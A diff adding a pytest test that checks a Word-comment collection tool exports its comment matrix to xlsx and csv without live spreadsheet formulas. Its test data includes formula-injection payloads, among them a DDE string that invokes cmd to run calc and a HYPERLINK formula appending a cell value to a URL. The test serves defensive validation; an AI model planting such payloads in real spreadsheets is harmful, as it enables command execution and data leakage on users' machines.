@@ -5,6 +5,7 @@ umask says and never a formula."""
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import os
 import struct
@@ -17,6 +18,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from lxml import etree
 
 from conftest import POSITION, REPO
 from papier import fsutil
@@ -366,3 +368,64 @@ def test_umask_is_read_without_changing_it() -> None:
         assert fsutil.umask() == 0o027
     finally:
         os.umask(old)
+
+
+# ------------------------------------------------------------------ 3 formula injection
+
+
+def add_comments(path: Path, starts_with: str, texts: list[str]) -> None:
+    """Comments on the first run of a paragraph, as Word writes them (range + reference)."""
+    parts = parts_of(path)
+    root = etree.fromstring(parts["word/document.xml"])
+    target = next(p for p in root.iter(f"{W}p")
+                  if "".join(t.text or "" for t in p.iter(f"{W}t")).startswith(starts_with))
+    comments = etree.fromstring(parts["word/comments.xml"])
+    first_run = next(target.iter(f"{W}r"))
+    for number, text in enumerate(texts, 70):
+        first_run.addprevious(etree.Element(f"{W}commentRangeStart", {f"{W}id": str(number)}))
+        first_run.addnext(etree.Element(f"{W}commentRangeEnd", {f"{W}id": str(number)}))
+        ref = etree.SubElement(target, f"{W}r")
+        etree.SubElement(ref, f"{W}commentReference", {f"{W}id": str(number)})
+        comment = etree.SubElement(comments, f"{W}comment", {
+            f"{W}id": str(number), f"{W}author": "Jonas Muster",
+            f"{W}date": f"2026-11-30T11:{number:02d}:00Z", f"{W}initials": "JM"})
+        paragraph = etree.SubElement(comment, f"{W}p")
+        etree.SubElement(etree.SubElement(paragraph, f"{W}r"), f"{W}t").text = text
+    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
+    parts["word/comments.xml"] = etree.tostring(comments, xml_declaration=True, encoding="UTF-8")
+    path.write_bytes(zipped(parts))
+
+
+FORMULAS = ["=sum(A1:A3) stimmt nicht", "+49 30 1234567 anrufen", "-1 Prozent?",
+            "@SUMME(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?x="&A1;"klick")']
+
+
+def test_matrix_cells_are_never_formulas(opened: Workspace, capsys) -> None:
+    returned = opened.root / "formeln.docx"
+    returned.write_bytes(draft(opened, "stadt-ludwigsburg").read_bytes())
+    add_comments(returned, "Kinder wachsen nicht in Zuständigkeiten auf", FORMULAS)
+    assert main(["round", "collect", POSITION, str(returned)]) == 0
+    for fmt in ("xlsx", "csv", "md"):
+        assert main(["round", "matrix", POSITION, "--to", fmt]) == 0
+    capsys.readouterr()
+    folder = comments_yaml(opened).parent
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(folder / "kommentarmatrix-runde-1.xlsx").active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
+    for text in FORMULAS:
+        assert text in cells, text
+        assert cells[text].data_type == "s" and cells[text].quotePrefix
+    assert all(c.data_type == "s" for c in cells.values() if c.value is not None)
+    with zipfile.ZipFile(folder / "kommentarmatrix-runde-1.xlsx") as book:
+        xml = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+    main_ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    assert xml.find(f".//{main_ns}f") is None
+    with open(folder / "kommentarmatrix-runde-1.csv", encoding="utf-8-sig", newline="") as handle:
+        table = list(csv.reader(handle, delimiter=";"))
+    flat = [cell for row in table[1:] for cell in row]
+    for text in FORMULAS:
+        assert f"'{text}" in flat
+    assert not [cell for cell in flat if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    markdown = (folder / "kommentarmatrix-runde-1.md").read_text("utf-8")
+    assert "| =sum(A1:A3) stimmt nicht |" in markdown  # Markdown shows it as written
